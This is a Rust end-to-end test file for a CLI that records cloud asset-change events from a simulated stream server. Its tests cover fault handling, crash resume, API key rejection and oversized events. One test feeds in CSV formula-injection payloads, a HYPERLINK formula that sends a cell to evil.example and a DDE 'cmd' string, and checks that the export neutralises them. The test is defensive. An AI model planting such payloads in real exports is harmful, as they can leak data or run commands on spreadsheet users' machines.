@@ -1,0 +1,336 @@
+//! End-to-end tests of `tideline-cli` against a real EventStream server (eventstream-sim) on
+//! loopback, recording into real session files. The CLI runs as its own process, so it can be
+//! killed; the server runs in the test process so its manifest can be read directly.
+
+use std::collections::HashSet;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use eventstream_sim::{RunningSim, Scenario, SimConfig, StreamSource, parse_faults};
+use tempfile::TempDir;
+use tideline_engine::store::Session;
+
+const KEY: &str = "test-key-0123";
+
+fn cli() -> Command {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_tideline-cli"));
+    command.env_remove("TIDELINE_API_KEY");
+    command
+}
+
+fn fixture(name: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../tests/fixtures")
+        .join(name)
+}
+
+async fn serve(source: StreamSource, adjust: impl FnOnce(&mut SimConfig)) -> RunningSim {
+    let mut config = SimConfig::new(KEY, source);
+    config.retry_ms = 50;
+    adjust(&mut config);
+    eventstream_sim::start(config, 0)
+        .await
+        .expect("the stream server starts")
+}
+
+/// Runs `record … --until-idle SECS` to completion.
+async fn record(url: &str, session: &Path, until_idle: &str, extra: &[&str]) -> Output {
+    let mut command = cli();
+    command
+        .args(["record", "--endpoint", url, "--session"])
+        .arg(session)
+        .args(["--until-idle", until_idle])
+        .args(extra)
+        .env("TIDELINE_API_KEY", KEY);
+    tokio::task::spawn_blocking(move || command.output().expect("tideline-cli runs"))
+        .await
+        .unwrap()
+}
+
+fn assert_success(output: &Output) {
+    assert!(
+        output.status.success(),
+        "tideline-cli failed: {}\n{}",
+        output.status,
+        String::from_utf8_lossy(&output.stderr)
+    );
+}
+
+fn info_json(session: &Path) -> serde_json::Value {
+    let output = cli()
+        .args(["info", "--json", "--session"])
+        .arg(session)
+        .output()
+        .unwrap();
+    assert_success(&output);
+    serde_json::from_slice(&output.stdout).expect("info --json prints JSON")
+}
+
+fn export_rows(session: &Path) -> (csv::StringRecord, Vec<csv::StringRecord>) {
+    let output = cli()
+        .args(["export", "--format", "csv", "--out", "-", "--session"])
+        .arg(session)
+        .output()
+        .unwrap();
+    assert_success(&output);
+    let mut reader = csv::Reader::from_reader(output.stdout.as_slice());
+    let header = reader.headers().unwrap().clone();
+    let rows = reader
+        .records()
+        .collect::<Result<Vec<_>, _>>()
+        .expect("the CSV parses back");
+    (header, rows)
+}
+
+fn stored_keys(session: &Path) -> Vec<(String, String)> {
+    Session::open(session).unwrap().event_keys().unwrap()
+}
+
+fn assert_stored_exactly(session: &Path, sent: &[(String, String)]) {
+    let stored = stored_keys(session);
+    let distinct: HashSet<_> = stored.iter().cloned().collect();
+    assert_eq!(distinct.len(), stored.len(), "a key was stored twice");
+    let sent: HashSet<_> = sent.iter().cloned().collect();
+    let missing = sent.difference(&distinct).count();
+    let extra = distinct.difference(&sent).count();
+    assert!(
+        missing == 0 && extra == 0,
+        "{missing} sent events missing, {extra} stored events never sent"
+    );
+}
+
+fn ndjson(dir: &TempDir, name: &str, events: &[String]) -> PathBuf {
+    let path = dir.path().join(name);
+    let mut file = std::fs::File::create(&path).unwrap();
+    for event in events {
+        writeln!(file, "{event}").unwrap();
+    }
+    path
+}
+
+fn event(id: &str, principal: &str, user_agent: &str, pad: usize) -> String {
+    serde_json::json!({
+        "specversion": "1.0", "id": id, "source": "/cloudAccounts/T", "type": "com.opshelm.asset.update",
+        "time": format!("2024-05-05T14:00:{:02}Z", id.len() % 60),
+        "subject": "ohn:aws:1:us-east-1:network-firewall:sg-1",
+        "data": {
+            "asset": {"name": "ohn:aws:1:us-east-1:network-firewall:sg-1", "type": "network.firewall", "display_name": "sg-1"},
+            "attribution": {"principal": principal, "user_agent": user_agent, "method": "console", "source_ip": "198.51.100.23"},
+            "config": {"pad": "x".repeat(pad)}, "previous_config": {"pad": ""}
+        }
+    })
+    .to_string()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn seed_incident_replay_stores_11_asset_events_and_exports_11_csv_rows() {
+    let dir = TempDir::new().unwrap();
+    let sim = serve(StreamSource::Replay(fixture("seed-incident.sse")), |_| {}).await;
+    let session = dir.path().join("seed.tideline");
+    assert_success(&record(&sim.url(), &session, "1", &[]).await);
+
+    let info = info_json(&session);
+    assert_eq!(info["asset_events"], 11, "{info}");
+    assert_eq!(info["quarantined"], 0, "{info}");
+    assert_eq!(info["last_event_id"], "01HX0000000000000000000011");
+    assert_eq!(
+        info["by_change"],
+        serde_json::json!({"create": 3, "update": 6, "delete": 2})
+    );
+
+    let (header, rows) = export_rows(&session);
+    assert_eq!(
+        header.iter().collect::<Vec<_>>(),
+        tideline_engine::export::CSV_COLUMNS
+    );
+    assert_eq!(rows.len(), 11);
+    let firewall_open = rows
+        .iter()
+        .find(|row| &row[15] == "01HX0000000000000000000007")
+        .unwrap();
+    assert_eq!(&firewall_open[2], "prod-db-sg");
+    assert_eq!(&firewall_open[11], "console");
+    assert!(
+        firewall_open[14].contains("added IpPermissions[0].IpRanges[CidrIp=203.0.113.66/32]"),
+        "{:?}",
+        &firewall_open[14]
+    );
+    let times: Vec<&str> = rows.iter().map(|row| row.get(0).unwrap()).collect();
+    assert!(
+        times.windows(2).all(|pair| pair[0] <= pair[1]),
+        "rows are in time order"
+    );
+    sim.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn fault_run_stores_exactly_the_manifest_keys_and_quarantines_every_bad_frame() {
+    let dir = TempDir::new().unwrap();
+    let sim = serve(StreamSource::Scenario(Scenario::Load), |config| {
+        config.count = Some(20_000);
+        config.size = 1_024;
+        config.faults = parse_faults("drop-every=997,dup=0.02,malformed=0.005").unwrap();
+    })
+    .await;
+    let session = dir.path().join("faults.tideline");
+    assert_success(&record(&sim.url(), &session, "2", &[]).await);
+
+    let manifest = sim.manifest();
+    assert_eq!(manifest.valid.len(), 20_000);
+    assert!(
+        manifest.duplicates > 0 && manifest.bad > 0,
+        "the faults fired: {manifest:?}"
+    );
+    assert_stored_exactly(&session, &manifest.valid);
+    let info = info_json(&session);
+    assert_eq!(info["quarantined"], manifest.bad, "{info}");
+    assert!(
+        info["duplicates"].as_u64().unwrap() >= manifest.duplicates,
+        "{info}"
+    );
+    sim.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn record_killed_with_sigkill_resumes_on_the_same_session_without_loss() {
+    let dir = TempDir::new().unwrap();
+    let sim = serve(StreamSource::Scenario(Scenario::Load), |config| {
+        config.count = Some(6_000);
+        config.size = 1_024;
+        config.rate = Some(2_000.0);
+    })
+    .await;
+    let session = dir.path().join("killed.tideline");
+    let mut child = cli()
+        .args(["record", "--endpoint", &sim.url(), "--session"])
+        .arg(&session)
+        .env("TIDELINE_API_KEY", KEY)
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while stored_count(&session) < 1_500 {
+        assert!(Instant::now() < deadline, "the recorder stored nothing");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    child.kill().unwrap(); // SIGKILL
+    child.wait().unwrap();
+    let before = stored_count(&session);
+    assert!(before < 6_000, "killed mid-stream ({before} stored)");
+
+    assert_success(&record(&sim.url(), &session, "2", &[]).await);
+    assert_stored_exactly(&session, &sim.manifest().valid);
+    assert_eq!(stored_keys(&session).len(), 6_000);
+    sim.shutdown().await;
+}
+
+fn stored_count(session: &Path) -> usize {
+    if !session.exists() {
+        return 0;
+    }
+    Session::open(session)
+        .and_then(|s| s.event_keys())
+        .map(|keys| keys.len())
+        .unwrap_or(0)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_wrong_key_stops_record_within_5_s_naming_the_key_problem() {
+    let dir = TempDir::new().unwrap();
+    let sim = serve(StreamSource::Replay(fixture("seed-incident.sse")), |_| {}).await;
+    let session = dir.path().join("wrong-key.tideline");
+    let mut command = cli();
+    command
+        .args(["record", "--endpoint", &sim.url(), "--session"])
+        .arg(&session)
+        .env("TIDELINE_API_KEY", "not-the-key");
+    let started = Instant::now();
+    let output = tokio::task::spawn_blocking(move || command.output().unwrap())
+        .await
+        .unwrap();
+    let elapsed = started.elapsed();
+    assert!(!output.status.success());
+    assert!(elapsed < Duration::from_secs(5), "took {elapsed:?}");
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("API key rejected"), "{stderr}");
+    assert!(!stderr.contains("not-the-key"), "the key was printed");
+    sim.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_2_mib_event_is_quarantined_with_its_reason_and_the_stream_goes_on() {
+    let dir = TempDir::new().unwrap();
+    let events = [
+        event("before", "arn:aws:iam::1:user/a", "aws-cli/2", 10),
+        event(
+            "huge",
+            "arn:aws:iam::1:user/a",
+            "aws-cli/2",
+            2 * 1024 * 1024,
+        ),
+        event("after", "arn:aws:iam::1:user/a", "aws-cli/2", 10),
+    ];
+    let sim = serve(
+        StreamSource::Replay(ndjson(&dir, "big.ndjson", &events)),
+        |_| {},
+    )
+    .await;
+    let session = dir.path().join("big.tideline");
+    assert_success(&record(&sim.url(), &session, "1", &[]).await);
+
+    let keys: Vec<String> = stored_keys(&session)
+        .into_iter()
+        .map(|(_, id)| id)
+        .collect();
+    assert_eq!(keys, ["before", "after"]);
+    let quarantined = Session::open(&session).unwrap().quarantined().unwrap();
+    assert_eq!(quarantined.len(), 1);
+    assert!(
+        quarantined[0]
+            .reason
+            .contains("over the 1048576-byte limit"),
+        "{}",
+        quarantined[0].reason
+    );
+    assert!(quarantined[0].raw_len > 2 * 1024 * 1024);
+    sim.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn hostile_principal_and_user_agent_are_neutralized_in_the_csv() {
+    let dir = TempDir::new().unwrap();
+    let principal = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+    let user_agent = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let events = [event("hostile", principal, user_agent, 1)];
+    let sim = serve(
+        StreamSource::Replay(ndjson(&dir, "hostile.ndjson", &events)),
+        |_| {},
+    )
+    .await;
+    let session = dir.path().join("hostile.tideline");
+    assert_success(&record(&sim.url(), &session, "1", &[]).await);
+
+    let (_, rows) = export_rows(&session);
+    assert_eq!(rows.len(), 1);
+    assert_eq!(&rows[0][9], format!("'{principal}"));
+    assert_eq!(&rows[0][13], format!("'{user_agent}"));
+    sim.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_stalled_stream_is_abandoned_after_the_idle_timeout_and_resumed() {
+    let dir = TempDir::new().unwrap();
+    let sim = serve(StreamSource::Scenario(Scenario::Load), |config| {
+        config.count = Some(300);
+        config.size = 512;
+        config.faults = parse_faults("stall-after=100").unwrap();
+    })
+    .await;
+    let session = dir.path().join("stall.tideline");
+    assert_success(&record(&sim.url(), &session, "3", &["--idle-timeout", "1"]).await);
+    assert_stored_exactly(&session, &sim.manifest().valid);
+    assert_eq!(stored_keys(&session).len(), 300);
+    sim.shutdown().await;
+}
